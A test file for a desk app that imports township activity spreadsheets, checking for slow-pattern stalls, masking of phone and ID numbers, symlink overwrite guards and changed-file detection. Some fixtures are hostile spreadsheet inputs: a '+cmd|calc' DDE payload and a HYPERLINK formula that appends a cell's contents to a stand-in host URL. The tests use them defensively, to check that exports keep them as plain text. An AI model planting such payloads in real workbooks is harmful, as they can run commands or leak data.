/** What a township drops into 收表 to stop the desk, to be printed as a formula, or to leave somebody's number lying open. */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { expect, it } from 'vitest'
import { read as readBook } from 'xlsx'
import { readForms } from '../../electron/core/tables/form-paper.ts'
import { readPress } from '../../electron/core/tables/press-words.ts'
import { senderOfLines, senderOfName } from '../../electron/core/tables/sender.ts'
import type { MethodInput, MethodName } from '../../shared/api/contract.ts'
import { cityNotice, newFolder, openCounty, type TestCore } from '../support/core.ts'
import { findPlanted } from '../support/planted.ts'
import { processorMs } from '../support/processor-time.ts'
import { answered, orderOf } from '../support/tables.ts'
import { book, type Cells } from '../support/ugly-tables.ts'

const place = (name: string, cells: Cells, sheet = '活动', dir = newFolder()): string => {
  const file = path.join(dir, name)
  writeFileSync(file, book({ [sheet]: cells }))
  return file
}
const readOf = async (core: TestCore, file: string) =>
  (await core.call('tables.read', { paths: [file], noticeId: cityNotice })).tables

/** Runs of what patterns stumble over, as long as a cell can be. */
const long = 30_000
const runs: Readonly<Record<string, string>> = {
  blanks: `新华社${' '.repeat(long)}x`,
  'blanks of full width': `新华社${'\u3000'.repeat(long)}x`,
  'blanks behind a number': `1${' '.repeat(long)}（`,
  'line ends': `新华社${'\n'.repeat(long)}x`,
  'open titles': '《'.repeat(long),
  quotes: 'a“'.repeat(long / 2),
  addresses: 'http://'.repeat(long / 7),
  digits: '1'.repeat(long),
  stars: `a${'*'.repeat(long)}a`,
}

it.each(Object.keys(runs))('a cell full of %s holds nobody up', (name) => {
  const text = runs[name] ?? ''
  const began = processorMs()
  readPress(text)
  senderOfLines([`填报单位${text}`, text])
  senderOfName(text)
  const cell = (words: string) => ({ text: words, number: null, wide: 1, high: 1 })
  const row = (label: string) => ({ cells: [cell(label), cell(text)] })
  readForms({
    tables: [
      {
        name: '',
        before: [text],
        rows: ['活动名称', '活动地点', '主办单位', '参与人数', '实物投入', '报道媒体'].map(row),
      },
    ],
  } as unknown as Parameters<typeof readForms>[0])
  // The worst of them took minutes; a slow machine may take its time.
  expect(processorMs() - began).toBeLessThan(1500)
})

it('a table of such cells is looked at while the core goes on', async () => {
  const core = await openCounty()
  const rows = Object.values(runs).flatMap((text, at) => [[`活动${at}`, '镇文化站', text, text]])
  const [table] = await readOf(core, place('来表.xlsx', [['活动名称', '活动地点', '报道媒体', '活动内容'], ...rows]))
  if (!table) throw new Error('no table')
  const began = processorMs()
  const preview = await core.call('tables.preview', orderOf([table]))
  expect(preview.rows).toHaveLength(rows.length)
  expect(processorMs() - began).toBeLessThan(3000)
})

const mobile = '13912345678'
const identity = '110101199003077758'

it('numbers in names, titles, senders and answers: asked or covered, in the store in clear nowhere', async () => {
  const core = await openCounty()
  const file = place(
    `东测镇登记表 ${mobile} ${identity}.xlsx`,
    [
      [`填报单位：东测镇人民政府${mobile}`],
      ['活动名称', '活动时间', '活动地点', '报道媒体', '联系人', '联系电话'],
      ['科普讲座', '2022年5月28日', '文化站', '示例日报', '测甲', mobile],
      ['义诊（联系139 1234 5678）', '2022年5月28日', '广场', '示例日报', '测乙', mobile],
      ['展览', '2022年5月28日', '联系１３９１２３４５６７８', '示例日报', '测丙', mobile],
      ['培训', '2022年5月28日', '文化站', `示例日报《拨打${mobile}》`, '测丁', mobile],
      ['', '2022年5月29日', '文化站', '示例日报', '测戊', mobile],
    ],
    `五月${mobile}`,
  )
  const [table] = await readOf(core, file)
  if (!table) throw new Error('no table')
  expect(table.sender).not.toContain(mobile)
  const order = orderOf([table])
  // The clerk types the sender in again, number and all.
  const careless = { ...order, tables: order.tables.map((one) => ({ ...one, sender: `东测镇${mobile}` })) }
  const first = await core.call('tables.preview', careless)
  expect(first.rows.map(({ open }) => open.length)).toEqual([0, 1, 1, 1, 1])
  const told = answered(careless, first, (cell) => (cell.column === 0 && cell.original === '' ? identity : null))
  const rowTold = { ...told, tables: told.tables.map((one) => ({ ...one, answers: [...(one.answers ?? [])] })) }
  for (const { answers } of rowTold.tables) answers.push({ row: 7, column: -1, value: `会议 ${identity}` })
  const second = await core.call('tables.preview', rowTold)
  expect(second.rows[4]?.open.length).toBeGreaterThan(0)
  const taken = await core.call('tables.take', rowTold)
  expect(taken).toMatchObject({ created: 1, leftOpen: 4 })
  const { rows } = await core.call('activities.list', {})
  const { cameFrom, values } = await core.call('activities.open', { activityId: rows[0]?.activityId ?? '' })
  expect(values.personal.mobile).toBe(mobile)
  expect(values.unit).toBe('东测镇139****5678')
  expect(cameFrom).toMatchObject({ sender: '东测镇139****5678', sheet: '五月139****5678' })
  // Taken back and forth again, changed and copied: the journal has it sealed as well.
  await core.call('activities.undo', { changeId: taken.changeId })
  await core.call('activities.redo', { changeId: taken.changeId })
  await core.call('activities.duplicate', { selection: { ids: [rows[0]?.activityId ?? ''] } })
  await core.call('backups.make', {})
  // The sender's own way is remembered under the covered name.
  expect((await core.call('tables.read', { paths: [file], noticeId: cityNotice })).tables).toHaveLength(1)
  await core.close()
  expect(findPlanted(core.dataDir, [mobile, identity, '测甲', '139 1234 5678', '１３９１２３４５６７８'])).toEqual([])
})

it('a 更正单 names the file without the numbers in its name', async () => {
  const core = await openCounty()
  const file = place(`西测镇${mobile}.xlsx`, [
    ['活动名称', '活动时间', '活动地点', '参与人数'],
    ['=HYPERLINK("http://x.example","领奖")', '不知道', '+cmd|calc', '很多人'],
  ])
  const [table] = await readOf(core, file)
  if (!table) throw new Error('no table')
  const out = path.join(newFolder(), '更正单.xlsx')
  const sender = '西测镇'
  const order = orderOf([{ ...table, sender }])
  await core.call('tables.saveCorrection', { ...order, sender, format: 'xlsx', out })
  const sheets = Object.values(readBook(readFileSync(out), { cellFormula: true }).Sheets)
  const cells = sheets.flatMap((sheet) => Object.entries(sheet).filter(([at]) => !at.startsWith('!')))
  expect(JSON.stringify(cells)).not.toContain(mobile)
  expect(cells.filter(([, cell]) => 'f' in (cell as object))).toEqual([])
})

it('texts that spreadsheets would reckon out stay texts in the workbook of the register', async () => {
  const core = await openCounty()
  const evil = '=HYPERLINK("http://x.example/"&A1,"领奖")'
  const values = {
    year: 2022,
    title: evil,
    place: '+1+1',
    unit: '@SUM(1)',
    description: '-2+3',
    press: [{ outlet: '=1+1' }],
  }
  await core.call('activities.create', { values })
  const out = path.join(newFolder(), '登记.xlsx')
  await core.call('activities.saveSheet', { out })
  const bookRead = readBook(readFileSync(out), { cellFormula: true })
  const cells = Object.values(bookRead.Sheets).flatMap((sheet) =>
    Object.entries(sheet)
      .filter(([at]) => !at.startsWith('!'))
      .map(([, cell]) => cell as { t: string; v: unknown; f?: string }),
  )
  expect(cells.filter(({ f }) => f !== undefined)).toEqual([])
  for (const text of [evil, '+1+1', '@SUM(1)', '-2+3', '=1+1'])
    expect(cells.find(({ v }) => v === text)).toMatchObject({ t: 's' })
})

it('no file of 收表 or of the register is saved over the store', async () => {
  const core = await openCounty()
  const [table] = await readOf(
    core,
    place('北测镇.xlsx', [
      ['活动名称', '活动时间'],
      ['讲座', '不知道'],
    ]),
  )
  if (!table) throw new Error('no table')
  await core.call('activities.create', { values: { year: 2022, title: '讲座' } })
  const link = path.join(newFolder(), 'link')
  symlinkSync(core.dataDir, link)
  for (const folder of [core.dataDir, link, path.join(core.dataDir, '.')]) {
    const out = path.join(folder, 'kexie.sqlite')
    const refused = async <M extends MethodName>(method: M, input: MethodInput<M>): Promise<void> => {
      expect(await core.problem(method, input), method).toMatchObject({ code: 'file.unwritable' })
      expect(readFileSync(out).subarray(0, 15).toString('latin1')).toBe('SQLite format 3')
    }
    await refused('tables.saveBlank', { noticeId: cityNotice, format: 'xlsx', out })
    await refused('tables.saveBlank', { noticeId: null, format: 'docx', out })
    await refused('tables.saveCorrection', { ...orderOf([table]), sender: table.sender, format: 'xlsx', out })
    await refused('activities.saveSheet', { out })
  }
})

it('a file that was changed between looking and taking is not taken; folders in a circle end', async () => {
  const core = await openCounty()
  const dir = newFolder()
  mkdirSync(path.join(dir, 'a'))
  symlinkSync(dir, path.join(dir, 'a', 'again'))
  symlinkSync(path.join(core.dataDir, 'kexie.sqlite'), path.join(dir, 'a', 'store.xlsx'))
  const header = ['活动名称', '活动时间', '活动地点']
  const file = place('南测镇.xlsx', [header, ['讲座', '2022年5月28日', '文化站']], '活动', path.join(dir, 'a'))
  const { tables } = await core.call('tables.read', { paths: [dir], noticeId: cityNotice })
  expect(tables.map((one) => path.basename(one.path))).toEqual(['南测镇.xlsx'])
  const order = orderOf(tables)
  expect((await core.call('tables.preview', order)).rows).toHaveLength(1)
  writeFileSync(file, book({ 活动: [header, ['换过的', '2022年5月28日', '文化站']] }))
  expect((await core.problem('tables.take', order)).code).toBe('table.changed')
  expect((await core.call('activities.list', {})).total).toBe(0)
})
